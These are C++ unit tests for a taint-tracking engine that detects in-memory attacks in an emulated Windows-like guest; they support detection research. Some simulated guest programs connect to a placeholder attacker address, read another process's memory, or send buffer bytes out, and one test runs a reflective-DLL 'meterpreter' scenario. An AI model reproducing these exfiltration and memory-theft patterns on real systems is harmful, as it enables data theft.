  // Build identity lookup table at "table" (256 bytes).
  a.movi_label(Reg::R1, "table");
  a.movi(Reg::R2, 0);
  a.label("init");
  a.cmpi(Reg::R2, 256);
  a.bgeu("init_done");
  a.add(Reg::R3, Reg::R1, Reg::R2);
  a.st8(Reg::R3, 0, Reg::R2);
  a.addi(Reg::R2, Reg::R2, 1);
  a.jmp("init");
  a.label("init_done");
  // dst[0] = table[src[0]] — the classic address dependency.
  a.movi_label(Reg::R4, "src");
  a.ld8(Reg::R5, Reg::R4, 0);      // tainted index
  a.add(Reg::R6, Reg::R1, Reg::R5);
  a.ld8(Reg::R7, Reg::R6, 0);      // table value (untainted content)
  a.movi_label(Reg::R8, "dst");
  a.st8(Reg::R8, 0, Reg::R7);
  end_spin(a);
  scaffold_data(a);
  a.label("table");
  a.zeros(256);
}

TEST_F(EngineTest, Fig1AddressDependencyNotPropagatedByDefault) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("fig1.exe", lookup_table_program);
  os::Process* p = machine_->kernel().find(pid);
  // Label offsets: 17 instructions, then src.
  VAddr src = src_;
  taint_packet(*p, src, 1);
  resume_and_run(pid);
  // Undertainting, by design (per-policy handling instead).
  EXPECT_EQ(prov(pid, src + 64), kEmptyProv);
}

TEST_F(EngineTest, Fig1AddressDependencyPropagatedWhenEnabled) {
  Options opts = quiet_options();
  opts.propagate_address_deps = true;
  init(opts);
  os::Pid pid = spawn_suspended("fig1b.exe", lookup_table_program);
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src, 1);
  resume_and_run(pid);
  ProvListId id = prov(pid, src + 64);
  ASSERT_NE(id, kEmptyProv);
  EXPECT_TRUE(engine_->store().contains_type(id, TagType::kNetflow));
}

// Figure 2 of the paper: control-dependency laundering. The copied-by-
// branches output is UNtainted — the documented limitation of not tracking
// control flow.
TEST_F(EngineTest, Fig2ControlDependencyLaundersTaint) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("fig2.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld8(Reg::R2, Reg::R1, 0);   // tainted input
    a.movi(Reg::R3, 0);           // output
    a.movi(Reg::R4, 1);           // bit
    a.label("bits");
    a.cmpi(Reg::R4, 256);
    a.bgeu("bits_done");
    a.and_(Reg::R5, Reg::R2, Reg::R4);
    a.cmpi(Reg::R5, 0);
    a.beq("skip");
    a.or_(Reg::R3, Reg::R3, Reg::R4);  // r4 is a constant: no taint
    a.label("skip");
    a.shli(Reg::R4, Reg::R4, 1);
    a.jmp("bits");
    a.label("bits_done");
    a.movi_label(Reg::R6, "dst");
    a.st8(Reg::R6, 0, Reg::R3);
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src, 1);
  resume_and_run(pid);
  // The copy is perfect but invisible to DIFT (Section VI-D).
  EXPECT_EQ(prov(pid, src + 64), kEmptyProv);
}

TEST_F(EngineTest, ExportTablePointersAreTaggedOnModuleLoad) {
  init(quiet_options());
  const auto& mods = machine_->kernel().modules();
  ASSERT_GE(mods.size(), 1u);
  const auto& ntdll = mods[0];
  const auto& as = machine_->kernel().kernel_as();
  // addr field of export 0.
  ProvListId id = engine_->prov_at(as, ntdll.exports_va + 8);
  ASSERT_NE(id, kEmptyProv);
  EXPECT_TRUE(engine_->store().contains_type(id, TagType::kExportTable));
  // count and hash fields are not tagged.
  EXPECT_EQ(engine_->prov_at(as, ntdll.exports_va), kEmptyProv);
  EXPECT_EQ(engine_->prov_at(as, ntdll.exports_va + 4), kEmptyProv);
}

TEST_F(EngineTest, ImageMappingAppliesFileTag) {
  Options opts;  // default: taint_mapped_images = true
  init(opts);
  os::Pid pid = spawn_suspended("tagged.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    end_spin(a);
  });
  ProvListId id = prov(pid, kUserImageBase);
  ASSERT_NE(id, kEmptyProv);
  EXPECT_TRUE(engine_->store().contains_type(id, TagType::kFile));
  EXPECT_TRUE(engine_->store().contains_type(id, TagType::kProcess));
}

TEST_F(EngineTest, KernelWriteClearsStaleTaint) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("stale.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.movi(Reg::R2, 8);
    emit_sys(a, Sys::kNtGetRandom);  // kernel overwrites src
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src, 8);
  ASSERT_NE(prov(pid, src), kEmptyProv);
  resume_and_run(pid);
  EXPECT_EQ(prov(pid, src), kEmptyProv);  // kernel write cleared it
}

TEST_F(EngineTest, SyscallResultRegisterIsUntainted) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("sysr.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld32(Reg::R0, Reg::R1, 0);      // r0 tainted
    emit_sys(a, Sys::kNtGetCurrentPid);  // r0 = kernel result now
    a.movi_label(Reg::R3, "dst");
    a.st32(Reg::R3, 0, Reg::R0);
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src, 4);
  resume_and_run(pid);
  EXPECT_EQ(prov(pid, src + 64), kEmptyProv);
}

TEST_F(EngineTest, NetflowTrackingCanBeDisabled) {
  Options opts = quiet_options();
  opts.track_netflow = false;
  init(opts);
  os::Pid pid = spawn_suspended("abl.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src, 8);
  EXPECT_EQ(prov(pid, src), kEmptyProv);  // insertion ablated
}

TEST_F(EngineTest, CustomPolicyAndWhitelist) {
  struct AnyTaintedExportRead final : FlagPolicy {
    const char* name() const override { return "any-export-read"; }
    bool matches(const ProvStore& store, ProvListId,
                 ProvListId target) const override {
      return store.contains_type(target, TagType::kExportTable);
    }
  };
  Options opts = quiet_options();
  opts.whitelist.insert("white.exe");
  init(opts);
  engine_->add_policy(std::make_unique<AnyTaintedExportRead>());
  // A benign program that reads the export table directly (via guest
  // GetProcAddress) now matches the custom policy, but is whitelisted.
  os::Pid pid = spawn_suspended("white.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi(Reg::R9, os::KernelLayout::kNtdllBase);
    a.movi(Reg::R1, fnv1a32(os::sym::kUser32));
    a.movi(Reg::R2, fnv1a32(os::sym::kMessageBox));
    a.callr(Reg::R9);
    end_spin(a);
  });
  resume_and_run(pid);
  ASSERT_FALSE(engine_->findings().empty());
  EXPECT_TRUE(engine_->findings()[0].whitelisted);
  EXPECT_FALSE(engine_->flagged());  // suppressed
  EXPECT_TRUE(engine_->active_findings().empty());
}

// ---------------------------------------------------------------------------
// Differential property: on random straight-line direct-flow programs, the
// engine's per-byte taint equals an independent boolean-taint reference.

struct RefState {
  bool reg[16][4] = {};
  std::map<u32, bool> mem;  // offset in buffer -> tainted
};

TEST_F(EngineTest, RandomDirectFlowProgramsMatchBooleanReference) {
  Rng rng(2024);
  for (int iter = 0; iter < 15; ++iter) {
    init(quiet_options());
    struct Op {
      int kind;  // 0 movi, 1 mov, 2 add, 3 ld32, 4 st32, 5 ld8, 6 st8
      u8 rd, rs1, rs2;
      u32 off;
    };
    std::vector<Op> ops;
    for (int i = 0; i < 40; ++i) {
      Op op;
      op.kind = static_cast<int>(rng.below(7));
      op.rd = static_cast<u8>(1 + rng.below(7));
      op.rs1 = static_cast<u8>(1 + rng.below(7));
      op.rs2 = static_cast<u8>(1 + rng.below(7));
      op.off = static_cast<u32>(rng.below(15)) * 4;  // within 64-byte buffer
      ops.push_back(op);
    }

    os::Pid pid = spawn_suspended(
        "prop" + std::to_string(iter) + ".exe", [&](ImageBuilder& ib) {
          auto& a = ib.asm_();
          a.label("_start");
          a.movi_label(Reg::R8, "src");  // buffer base in r8 (never random)
          for (const Op& op : ops) {
            switch (op.kind) {
              case 0: a.movi(static_cast<Reg>(op.rd), 5); break;
              case 1:
                a.mov(static_cast<Reg>(op.rd), static_cast<Reg>(op.rs1));
                break;
              case 2:
                a.add(static_cast<Reg>(op.rd), static_cast<Reg>(op.rs1),
                      static_cast<Reg>(op.rs2));
                break;
              case 3:
                a.ld32(static_cast<Reg>(op.rd), Reg::R8,
                       static_cast<i32>(op.off));
                break;
              case 4:
                a.st32(Reg::R8, static_cast<i32>(op.off),
                       static_cast<Reg>(op.rs1));
                break;
              case 5:
                a.ld8(static_cast<Reg>(op.rd), Reg::R8,
                      static_cast<i32>(op.off));
                break;
              case 6:
                a.st8(Reg::R8, static_cast<i32>(op.off),
                      static_cast<Reg>(op.rs1));
                break;
            }
          }
          end_spin(a);
          scaffold_data(a);
        });
    os::Process* p = machine_->kernel().find(pid);
    VAddr src = src_;

    // Taint a random subset of input bytes; mirror into the reference.
    RefState ref;
    for (u32 b = 0; b < 64; ++b) {
      if (rng.chance(0.3)) {
        osi::GuestXfer xfer{p->info(), &p->as, src + b, 1};
        engine_->on_packet_to_guest(xfer, kFlow);
        ref.mem[b] = true;
      }
    }

    // Reference simulation (byte-level, same Table-I rules).
    auto mem_taint = [&](u32 off) {
      auto it = ref.mem.find(off);
      return it != ref.mem.end() && it->second;
    };
    for (const Op& op : ops) {
      switch (op.kind) {
        case 0:
          for (auto& b : ref.reg[op.rd]) b = false;
          break;
        case 1:
          for (int b = 0; b < 4; ++b) ref.reg[op.rd][b] = ref.reg[op.rs1][b];
          break;
        case 2: {
          bool any = false;
          for (int b = 0; b < 4; ++b) {
            any |= ref.reg[op.rs1][b] | ref.reg[op.rs2][b];
          }
          for (auto& b : ref.reg[op.rd]) b = any;
          break;
        }
        case 3:
          for (int b = 0; b < 4; ++b) {
            ref.reg[op.rd][b] = mem_taint(op.off + b);
          }
          break;
        case 4:
          for (int b = 0; b < 4; ++b) {
            ref.mem[op.off + b] = ref.reg[op.rs1][b];
          }
          break;
        case 5:
          ref.reg[op.rd][0] = mem_taint(op.off);
          for (int b = 1; b < 4; ++b) ref.reg[op.rd][b] = false;
          break;
        case 6:
          ref.mem[op.off] = ref.reg[op.rs1][0];
          break;
      }
    }

    resume_and_run(pid);
    for (u32 b = 0; b < 64; ++b) {
      bool engine_tainted = prov(pid, src + b) != kEmptyProv;
      EXPECT_EQ(engine_tainted, mem_taint(b))
          << "iter " << iter << " byte " << b;
    }
  }
}

// ---------------------------------------------------------------------------
// Finding bookkeeping: dedup key, max_findings cap, whitelist interaction.
// These drive on_insn_retired() directly with synthesized events so the
// same tainted load site can be replayed under different (cr3, pc, rule)
// combinations.

class FindingTest : public EngineTest {
 protected:
  /// Spawns a suspended helper whose image supplies a mapped code page and
  /// a tainted "src" buffer, and remembers what a synthesized load of that
  /// buffer needs: the address space, physical addresses, and real cr3.
  void arm(Options opts, const std::string& name = "victim.exe") {
    init(opts);
    pid_ = spawn_suspended(name, [](ImageBuilder& ib) {
      auto& a = ib.asm_();
      a.label("_start");
      end_spin(a);
      scaffold_data(a);
    });
    proc_ = machine_->kernel().find(pid_);
    ASSERT_NE(proc_, nullptr);
    taint_packet(*proc_, src_, 4);
    src_pa_ = proc_->as.translate(src_, vm::AccessType::kRead, true).value();
  }

  /// A retired `ld32 r2, [r1+0]` of the tainted buffer at `pc` under `cr3`.
  void retire_tainted_load(PAddr cr3, VAddr pc) {
    vm::InsnEvent ev;
    ev.instr_index = ++instr_index_;
    ev.cr3 = cr3;
    ev.pc = pc;
    ev.pc_pa = proc_->as.translate(pc, vm::AccessType::kExec, true).value();
    ev.insn.op = vm::Opcode::kLd32;
    ev.insn.rd = 2;
    ev.insn.rs1 = 1;
    ev.mem = vm::MemAccess{src_, src_pa_, 4, false};
    engine_->on_insn_retired(ev, proc_->as);
  }

  static RuleSpec always_rule(const char* id) {
    RuleSpec r;  // empty conjunction: matches every tainted load
    r.id = id;
    r.trigger = Trigger::kTaintedLoad;
    return r;
  }

  os::Pid pid_ = 0;
  os::Process* proc_ = nullptr;
  PAddr src_pa_ = 0;
  u64 instr_index_ = 0;
};

TEST_F(FindingTest, DedupKeyDistinguishesProcessAndRule) {
  Options opts = quiet_options();
  opts.rules = {always_rule("rule-a"), always_rule("rule-b")};
  arm(opts);
  const VAddr pc = kUserImageBase;
  const PAddr cr3 = proc_->as.cr3();

  // One site, two matching rules: a finding per rule, not per pc.
  retire_tainted_load(cr3, pc);
  EXPECT_EQ(engine_->findings().size(), 2u);

  // Same pc from a different address space must not collapse into the
  // first process's findings (the old `(pc<<8)|rule` key did exactly
  // that: cr3 was not part of the key).
  retire_tainted_load(cr3 + 0x1000, pc);
  EXPECT_EQ(engine_->findings().size(), 4u);

  // Exact repeats stay deduped.
  retire_tainted_load(cr3, pc);
  retire_tainted_load(cr3 + 0x1000, pc);
  EXPECT_EQ(engine_->findings().size(), 4u);
}

TEST_F(FindingTest, MaxFindingsCapsRecordingNotEvaluation) {
  Options opts = quiet_options();
  opts.rules = {always_rule("cap-rule")};
  opts.max_findings = 2;
  arm(opts);
  const PAddr cr3 = proc_->as.cr3();
  for (u32 k = 0; k < 4; ++k) {
    retire_tainted_load(cr3, kUserImageBase + k * vm::kInsnSize);
  }
  EXPECT_EQ(engine_->findings().size(), 2u);
  EXPECT_TRUE(engine_->flagged());
  // Rules keep evaluating (and hitting) past the cap; only recording stops.
  EXPECT_EQ(engine_->rule_engine().rule_stats(0).hits, 4u);
  // The cap never consumed dedup-set slots for unrecorded findings, so
  // nothing was "remembered as seen" without being recorded.
  retire_tainted_load(cr3, kUserImageBase + 3 * vm::kInsnSize);
  EXPECT_EQ(engine_->findings().size(), 2u);
}

TEST_F(FindingTest, WhitelistMissKeepsFindingActive) {
  Options opts = quiet_options();
  opts.rules = {always_rule("strict")};
  opts.whitelist.insert("innocent.exe");  // does not match victim.exe
  arm(opts);
  retire_tainted_load(proc_->as.cr3(), kUserImageBase);
  ASSERT_EQ(engine_->findings().size(), 1u);
  const Finding& f = engine_->findings()[0];
  EXPECT_EQ(f.proc.name, "victim.exe");
  EXPECT_FALSE(f.whitelisted);
  EXPECT_TRUE(engine_->flagged());
  EXPECT_EQ(engine_->active_findings().size(), 1u);
}

TEST_F(FindingTest, UnknownProcessFindingsCarrySentinelName) {
  Options opts = quiet_options();
  opts.rules = {always_rule("strict")};
  arm(opts);
  retire_tainted_load(proc_->as.cr3() + 0x1000, kUserImageBase);
  ASSERT_EQ(engine_->findings().size(), 1u);
  EXPECT_EQ(engine_->findings()[0].proc.name, "<unknown>");
  EXPECT_FALSE(engine_->findings()[0].whitelisted);
  EXPECT_TRUE(engine_->flagged());
}

TEST_F(FindingTest, UnknownProcessCanBeWhitelistedBySentinel) {
  Options opts = quiet_options();
  opts.rules = {always_rule("strict")};
  opts.whitelist.insert("<unknown>");
  arm(opts);
  retire_tainted_load(proc_->as.cr3() + 0x1000, kUserImageBase);
  ASSERT_EQ(engine_->findings().size(), 1u);
  EXPECT_TRUE(engine_->findings()[0].whitelisted);
  EXPECT_FALSE(engine_->flagged());
}

}  // namespace
}  // namespace faros::core
