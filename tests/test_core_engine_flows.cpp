// End-to-end information-flow tests for the engine through real guest
// syscalls: the Figure-4 byte lifecycle (network -> P1 -> file -> P2),
// cross-process reads, send-side process tagging, provenance caps, and
// finding bookkeeping.
#include <gtest/gtest.h>

#include "attacks/guest_common.h"
#include "attacks/scenarios.h"
#include "core/engine.h"
#include "os/machine.h"
#include "os/runtime.h"

namespace faros::core {
namespace {

using attacks::emit_sys;
using os::ImageBuilder;
using os::kUserImageBase;
using os::Sys;
using vm::Reg;

constexpr FlowTuple kFlow{0xa9fe1aa1, 4444, 0xa9fe39a8, 49162};

struct Env {
  std::unique_ptr<os::Machine> machine;
  std::unique_ptr<FarosEngine> engine;

  explicit Env(Options opts) {
    machine = std::make_unique<os::Machine>();
    engine = std::make_unique<FarosEngine>(machine->kernel(), opts);
    machine->attach_cpu_plugin(engine.get());
    machine->add_monitor(engine.get());
    EXPECT_TRUE(machine->boot().ok());
  }

  os::Pid spawn(const std::string& name,
                const std::function<void(ImageBuilder&)>& build,
                bool suspended = false) {
    ImageBuilder ib(name, kUserImageBase);
    build(ib);
    auto img = ib.build();
    EXPECT_TRUE(img.ok()) << (img.ok() ? "" : img.error().message);
    machine->kernel().vfs().create("C:/" + name, img.value().serialize());
    auto pid = machine->kernel().spawn("C:/" + name, suspended);
    EXPECT_TRUE(pid.ok());
    return pid.value_or(0);
  }
};

Options quiet() {
  Options o;
  o.taint_mapped_images = false;
  return o;
}

// Figure 4 of the paper: data comes in from the network into Process 1,
// is written into File 1, which is read by Process 2 — the provenance list
// of Process 2's buffer tells the whole story in order.
TEST(EngineFlows, Figure4LifecycleAcrossFileSystem) {
  Env env(quiet());
  // writer.exe: recv 8 bytes, write them to C:/Temp/drop.bin, exit.
  os::Pid writer = env.spawn("writer.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    attacks::emit_connect(a, attacks::kAttackerIp, attacks::kAttackerPort);
    a.movi_label(Reg::R9, "buf");
    attacks::emit_recv(a, Reg::R9, 8);
    a.movi_label(Reg::R1, "path");
    emit_sys(a, Sys::kNtCreateFile);
    a.mov(Reg::R8, Reg::R0);
    a.mov(Reg::R1, Reg::R8);
    a.movi_label(Reg::R2, "buf");
    a.movi(Reg::R3, 8);
    emit_sys(a, Sys::kNtWriteFile);
    attacks::emit_exit(a, 0);
    a.align(8);
    a.label("path");
    a.data_str("C:/Temp/drop.bin");
    a.align(8);
    a.label("buf");
    a.zeros(8);
  });
  ASSERT_NE(writer, 0u);
  // Run until the writer blocks on recv, then deliver the packet.
  env.machine->run(50000);
  FlowTuple reply{kFlow.src_ip, kFlow.src_port,
                  env.machine->kernel().net().guest_ip(), 49162};
  ASSERT_TRUE(env.machine->kernel().deliver_packet(reply,
                                                   Bytes(8, 0x61)));
  env.machine->run(50000);
  ASSERT_EQ(env.machine->kernel().live_count(), 0u);

  // reader.exe: read the file into memory and idle.
  os::Pid reader = env.spawn("reader.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "path");
    emit_sys(a, Sys::kNtOpenFile);
    a.mov(Reg::R1, Reg::R0);
    a.movi_label(Reg::R2, "buf");
    a.movi(Reg::R3, 8);
    emit_sys(a, Sys::kNtReadFile);
    a.label("spin");
    emit_sys(a, Sys::kNtYield);
    a.jmp("spin");
    a.align(8);
    a.label("path");
    a.data_str("C:/Temp/drop.bin");
    a.align(8);
    a.label("buf");
    a.zeros(8);
  });
  ASSERT_NE(reader, 0u);
  env.machine->run(30000);

  os::Process* p = env.machine->kernel().find(reader);
  // The reader's buffer label sits at a deterministic location: find it by
  // scanning the last image for the tainted bytes instead.
  ProvListId id = kEmptyProv;
  for (VAddr va = kUserImageBase; va < kUserImageBase + 0x1000; ++va) {
    ProvListId cand = env.engine->prov_at(p->as, va);
    if (cand != kEmptyProv &&
        env.engine->store().contains_type(cand, TagType::kNetflow)) {
      id = cand;
      break;
    }
  }
  ASSERT_NE(id, kEmptyProv) << "netflow taint lost across the file system";

  const auto& tags = env.engine->store().get(id);
  // Expected chronology: netflow, writer process, file, reader process.
  std::vector<TagType> types;
  for (const auto& t : tags) types.push_back(t.type());
  ASSERT_GE(types.size(), 4u);
  EXPECT_EQ(types[0], TagType::kNetflow);
  EXPECT_EQ(types[1], TagType::kProcess);
  // A file tag appears, and a second (distinct) process tag follows it.
  EXPECT_TRUE(env.engine->store().contains_type(id, TagType::kFile));
  EXPECT_EQ(env.engine->store().process_count(id), 2u);
}

TEST(EngineFlows, CrossProcessReadPropagatesTaint) {
  Env env(quiet());
  // victim holds tainted bytes; spy reads them with NtReadVirtualMemory.
  os::Pid victim = env.spawn(
      "victim.exe",
      [](ImageBuilder& ib) {
        auto& a = ib.asm_();
        a.label("_start");
        a.label("spin");
        emit_sys(a, Sys::kNtYield);
        a.jmp("spin");
        a.align(8);
        a.label("src");
        a.zeros(16);
      },
      /*suspended=*/true);
  os::Process* vp = env.machine->kernel().find(victim);
  // Taint the victim's data region.
  VAddr src = kUserImageBase + 3 * vm::kInsnSize;  // after 3 insns, aligned
  src = (src + 7) & ~7u;
  osi::GuestXfer xfer{vp->info(), &vp->as, src, 16};
  env.engine->on_packet_to_guest(xfer, kFlow);
  vp->state = os::ProcState::kReady;

  os::Pid spy = env.spawn("spy.exe", [&](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "vname");
    emit_sys(a, Sys::kNtOpenProcessByName);
    a.mov(Reg::R7, Reg::R0);
    a.mov(Reg::R1, Reg::R7);
    a.movi(Reg::R2, src);
    a.movi_label(Reg::R3, "dst");
    a.movi(Reg::R4, 16);
    emit_sys(a, Sys::kNtReadVirtualMemory);
    a.label("spin");
    emit_sys(a, Sys::kNtYield);
    a.jmp("spin");
    a.align(8);
    a.label("vname");
    a.data_str("victim.exe");
    a.align(8);
    a.label("dst");
    a.zeros(16);
  });
  env.machine->run(30000);

  os::Process* sp = env.machine->kernel().find(spy);
  ProvListId id = kEmptyProv;
  for (VAddr va = kUserImageBase; va < kUserImageBase + 0x1000; ++va) {
    ProvListId cand = env.engine->prov_at(sp->as, va);
    if (cand != kEmptyProv) {
      id = cand;
      break;
    }
  }
  ASSERT_NE(id, kEmptyProv);
  EXPECT_TRUE(env.engine->store().contains_type(id, TagType::kNetflow));
  // The victim's tag rode along with the stolen bytes.
  EXPECT_GE(env.engine->store().process_count(id), 1u);
}

TEST(EngineFlows, SendAppendsSenderProcessTag) {
  Env env(quiet());
  os::Pid pid = env.spawn(
      "sender.exe",
      [](ImageBuilder& ib) {
        auto& a = ib.asm_();
        a.label("_start");
        attacks::emit_connect(a, attacks::kAttackerIp,
                              attacks::kAttackerPort);
        a.mov(Reg::R1, Reg::R10);
        a.movi_label(Reg::R2, "src");
        a.movi(Reg::R3, 8);
        emit_sys(a, Sys::kNtSend);
        a.label("spin");
        emit_sys(a, Sys::kNtYield);
        a.jmp("spin");
        a.align(8);
        a.label("src");
        a.zeros(8);
      },
      /*suspended=*/true);
  os::Process* p = env.machine->kernel().find(pid);
  VAddr src = 0;
  // Locate "src": last 8 bytes of the blob, 8-aligned. Recover by probing
  // after the run instead — first taint a fixed window covering it.
  // Simpler: taint the whole image data page; the send reads from src.
  // Instead, find via the image: spawn() built it; use a second identical
  // builder to resolve the label offset.
  {
    ImageBuilder probe("sender.exe", kUserImageBase);
    auto& a = probe.asm_();
    a.label("_start");
    attacks::emit_connect(a, attacks::kAttackerIp, attacks::kAttackerPort);
    a.mov(Reg::R1, Reg::R10);
    a.movi_label(Reg::R2, "src");
    a.movi(Reg::R3, 8);
    emit_sys(a, Sys::kNtSend);
    a.label("spin");
    emit_sys(a, Sys::kNtYield);
    a.jmp("spin");
    a.align(8);
    a.label("src");
    a.zeros(8);
    src = kUserImageBase + probe.asm_().label_offset("src").value();
  }
  // Taint with a *netflow only* list (no process tag yet): hand-interned.
  osi::GuestXfer xfer{p->info(), &p->as, src, 8};
  // Use a foreign process' tag-less insertion: temporarily disable process
  // tracking is global, so instead verify the *sender* tag gets appended
  // on top of whatever insertion produced.
  env.engine->on_packet_to_guest(xfer, kFlow);
  p->state = os::ProcState::kReady;
  env.machine->run(30000);

  ProvListId id = env.engine->prov_at(p->as, src);
  ASSERT_NE(id, kEmptyProv);
  EXPECT_TRUE(env.engine->store().contains_type(id, TagType::kProcess));
}

TEST(EngineFlows, ProvListCapBoundsChainLength) {
  Options o = quiet();
  o.prov_list_cap = 3;
  Env env(o);
  // Chain: packet -> file write -> file read: would be 5+ tags uncapped.
  os::Pid pid = env.spawn(
      "capped.exe",
      [](ImageBuilder& ib) {
        auto& a = ib.asm_();
        a.label("_start");
        a.movi_label(Reg::R1, "path");
        emit_sys(a, Sys::kNtCreateFile);
        a.mov(Reg::R8, Reg::R0);
        a.mov(Reg::R1, Reg::R8);
        a.movi_label(Reg::R2, "src");
        a.movi(Reg::R3, 8);
        emit_sys(a, Sys::kNtWriteFile);
        a.mov(Reg::R1, Reg::R8);
        a.movi(Reg::R2, 0);
        emit_sys(a, Sys::kNtSeekFile);
        a.mov(Reg::R1, Reg::R8);
        a.movi_label(Reg::R2, "dst");
        a.movi(Reg::R3, 8);
        emit_sys(a, Sys::kNtReadFile);
        a.label("spin");
        emit_sys(a, Sys::kNtYield);
        a.jmp("spin");
        a.align(8);
        a.label("path");
        a.data_str("C:/c.bin");
        a.align(8);
        a.label("src");
        a.zeros(8);
        a.label("dst");
        a.zeros(8);
      },
      /*suspended=*/true);
  os::Process* p = env.machine->kernel().find(pid);
  // Locate src deterministically via an identical rebuild.
  VAddr src_va = 0;
  {
    ImageBuilder p2("capped.exe", kUserImageBase);
    auto& a = p2.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "path");
    emit_sys(a, Sys::kNtCreateFile);
    a.mov(Reg::R8, Reg::R0);
    a.mov(Reg::R1, Reg::R8);
    a.movi_label(Reg::R2, "src");
    a.movi(Reg::R3, 8);
    emit_sys(a, Sys::kNtWriteFile);
    a.mov(Reg::R1, Reg::R8);
    a.movi(Reg::R2, 0);
    emit_sys(a, Sys::kNtSeekFile);
    a.mov(Reg::R1, Reg::R8);
    a.movi_label(Reg::R2, "dst");
    a.movi(Reg::R3, 8);
    emit_sys(a, Sys::kNtReadFile);
    a.label("spin");
    emit_sys(a, Sys::kNtYield);
    a.jmp("spin");
    a.align(8);
    a.label("path");
    a.data_str("C:/c.bin");
    a.align(8);
    a.label("src");
    a.zeros(8);
    a.label("dst");
    a.zeros(8);
    src_va = kUserImageBase + p2.asm_().label_offset("src").value();
  }
  osi::GuestXfer tx{p->info(), &p->as, src_va, 8};
  env.engine->on_packet_to_guest(tx, kFlow);
  p->state = os::ProcState::kReady;
  env.machine->run(30000);

  // Every provenance list in the system respects the cap.
  env.engine->shadow().for_each_tainted([&](PAddr, ProvListId id) {
    EXPECT_LE(env.engine->store().get(id).size(), 3u);
  });
  // And the dst bytes are still tainted (origin kept, tail dropped).
  ProvListId id = env.engine->prov_at(p->as, src_va + 8 /* dst follows */);
  ASSERT_NE(id, kEmptyProv);
  EXPECT_EQ(env.engine->store().get(id)[0].type(), TagType::kNetflow);
}

TEST(EngineFlows, FindingsDedupPerSiteAndRespectCap) {
  Options o;
  o.max_findings = 1;
  Env env(o);
  // Run the full meterpreter attack via scenario plumbing but with the
  // shared engine: simplest is a fresh analyze() call with these options.
  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter);
  auto run = attacks::analyze(sc, o);
  ASSERT_TRUE(run.ok());
  EXPECT_TRUE(run.value().flagged);
  EXPECT_EQ(run.value().findings.size(), 1u);  // capped
}

TEST(EngineFlows, RegisterShadowIsPerProcess) {
  Env env(quiet());
  // Two processes each load from their own tainted buffer; the taint in
  // one's registers must not leak into the other's stores.
  auto make = [&](const std::string& name) {
    return env.spawn(
        name,
        [](ImageBuilder& ib) {
          auto& a = ib.asm_();
          a.label("_start");
          a.movi_label(Reg::R1, "src");
          a.ld32(Reg::R2, Reg::R1, 0);
          // Yield so the other process interleaves while r2 is "hot".
          emit_sys(a, Sys::kNtYield);
          a.movi_label(Reg::R3, "dst");
          a.st32(Reg::R3, 0, Reg::R2);
          a.label("spin");
          emit_sys(a, Sys::kNtYield);
          a.jmp("spin");
          a.align(8);
          a.label("src");
          a.zeros(8);
          a.label("dst");
          a.zeros(8);
        },
        /*suspended=*/true);
  };
  os::Pid p1 = make("one.exe");
  os::Pid p2 = make("two.exe");
  os::Process* proc1 = env.machine->kernel().find(p1);
  os::Process* proc2 = env.machine->kernel().find(p2);
  // Same label layout: src at the same offset in both images.
  VAddr src = 0;
  {
    ImageBuilder probe("one.exe", kUserImageBase);
    auto& a = probe.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld32(Reg::R2, Reg::R1, 0);
    emit_sys(a, Sys::kNtYield);
    a.movi_label(Reg::R3, "dst");
    a.st32(Reg::R3, 0, Reg::R2);
    a.label("spin");
    emit_sys(a, Sys::kNtYield);
    a.jmp("spin");
    a.align(8);
    a.label("src");
    a.zeros(8);
    a.label("dst");
    a.zeros(8);
    src = kUserImageBase + probe.asm_().label_offset("src").value();
  }
  // Taint ONLY process one's src.
  osi::GuestXfer xfer{proc1->info(), &proc1->as, src, 4};
  env.engine->on_packet_to_guest(xfer, kFlow);
  proc1->state = os::ProcState::kReady;
  proc2->state = os::ProcState::kReady;
  env.machine->run(30000);

  VAddr dst = src + 8;
  EXPECT_NE(env.engine->prov_at(proc1->as, dst), kEmptyProv);
  EXPECT_EQ(env.engine->prov_at(proc2->as, dst), kEmptyProv);
}

}  // namespace
}  // namespace faros::core
