// Tags (3-byte prov_tag, per-type hash maps) and interned provenance lists.
#include <gtest/gtest.h>

#include "common/rng.h"
#include "core/provenance.h"
#include "core/shadow.h"

namespace faros::core {
namespace {

TEST(ProvTag, PackUnpackRoundTripAllTypes) {
  for (TagType type : {TagType::kNetflow, TagType::kProcess, TagType::kFile,
                       TagType::kExportTable}) {
    for (u16 index : {u16{0}, u16{1}, u16{255}, u16{256}, u16{0xffff}}) {
      ProvTag tag(type, index);
      u8 packed[3];
      tag.pack(packed);
      EXPECT_EQ(packed[0], static_cast<u8>(type));
      auto back = ProvTag::unpack(packed);
      ASSERT_TRUE(back.has_value());
      EXPECT_EQ(*back, tag);
    }
  }
}

